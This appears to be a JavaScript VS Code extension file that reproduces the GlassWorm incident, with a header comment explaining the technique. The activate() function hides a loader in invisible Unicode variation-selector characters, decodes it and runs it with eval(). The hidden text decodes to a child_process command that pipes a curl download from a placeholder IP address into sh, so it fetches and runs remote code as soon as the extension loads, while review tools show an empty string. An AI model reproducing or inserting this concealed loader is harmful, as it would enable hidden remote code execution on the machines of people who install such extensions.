// Incident: GlassWorm (Open VSX and VS Code marketplace extensions), October 2025.
// Compromised extensions carried their loader as a run of invisible Unicode variation
// selectors inside an ordinary-looking string; a few lines decoded the code points back to
// bytes and evaluated them, so reviewers and diff views showed an empty string.
// Reference: https://www.koi.ai/blog/glassworm-first-self-propagating-worm-using-invisible-code-hits-openvsx-marketplace
// Reproduction (own code; the hidden text is generated, with a placeholder address).
const vscode = require('vscode');

function decode(s) {
  const out = [];
  for (const ch of s) {
    const c = ch.codePointAt(0);
    if (c >= 0xfe00 && c <= 0xfe0f) out.push(c - 0xfe00);
    else if (c >= 0xe0100 && c <= 0xe01ef) out.push(c - 0xe0100 + 16);
  }
  return Buffer.from(out).toString('utf8');
}

function activate(context) {
  const hint = '󠅢󠅕󠅡󠅥󠅙󠅢󠅕󠄘󠄗󠅓󠅘󠅙󠅜󠅔󠅏󠅠󠅢󠅟󠅓󠅕󠅣󠅣󠄗󠄙󠄞󠅕󠅨󠅕󠅓󠄘󠄗󠅓󠅥󠅢󠅜󠄐󠄝󠅣󠄐󠅘󠅤󠅤󠅠󠅣󠄪󠄟󠄟󠄢󠄡󠄨󠄞󠄩󠄢󠄞󠄠󠄞󠄡󠄟󠅗󠄐󠅬󠄐󠅣󠅘󠄗󠄙';
  eval(decode(hint));
  context.subscriptions.push(vscode.commands.registerCommand('ext.hello', () => {}));
}

module.exports = { activate };
